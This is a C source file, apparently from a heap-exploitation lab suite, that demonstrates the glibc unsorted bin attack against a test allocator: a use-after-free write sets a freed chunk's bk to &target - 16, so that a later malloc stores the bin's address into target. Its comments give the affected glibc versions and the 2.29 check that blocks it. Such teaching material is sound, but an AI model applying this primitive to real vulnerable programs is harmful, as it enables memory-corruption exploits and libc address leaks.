/*
 * unsorted_bin_attack.c - corrupt an unsorted chunk's bk, and malloc writes
 * the address of the unsorted bin at a target.
 *
 * malloc takes the chunks of the unsorted bin from the back.  Removing
 * victim, it makes victim->bk the new last chunk: bin->bk = victim->bk and
 * victim->bk->fd = bin.  Until 2.28 it did not check that victim->bk points
 * forward at victim.  With victim->bk = &target - 2 words, that second write
 * stores the bin's address (inside the arena, in libc on a real system) into
 * target: an uncontrolled value at a chosen place, once used to enlarge
 * global_max_fast or a loop bound, or to leak libc's address.
 *
 * Works on 2.23 ... 2.28.  2.29 checks victim->bk->fd == victim first:
 * "malloc(): unsorted double linked list corrupted".  The chunk is larger
 * than the tcache's largest, so it reaches the unsorted bin on every release.
 */
#include "tests/techniques/technique.h"

static size_t target;

int main(void)
{
    technique_begin("unsorted_bin_attack", "Set an unsorted chunk's bk to &target - 16: taking the chunk writes "
                                           "the unsorted bin's address into target.");

    char *p = arenalloc_malloc(0x418);
    char *guard = arenalloc_malloc(0x18);
    say("p = malloc(0x418) = %p (0x420 chunk), a guard %p.", (void *)p, (void *)guard);

    arenalloc_free(p);
    say("free(p): the unsorted bin's only chunk; its fd and bk point at the bin.");

    /* LAB(tech-unsorted_bin_attack) BEGIN */
    ((size_t *)p)[1] = (size_t)&target - 2 * sizeof(size_t);
    /* LAB(tech-unsorted_bin_attack) END */
    say("A write after free: p->bk = &target - 16 = %p.", (void *)((char *)&target - 2 * sizeof(size_t)));

    char *q = arenalloc_malloc(0x418);
    say("malloc(0x418) = %p: p, taken from the unsorted bin; taking it wrote the bin's address into bk->fd.",
        (void *)q);
    say("target = %#zx.", target);

    return technique_end(q == p && target != 0, "taking the chunk wrote the unsorted bin's address into target");
}
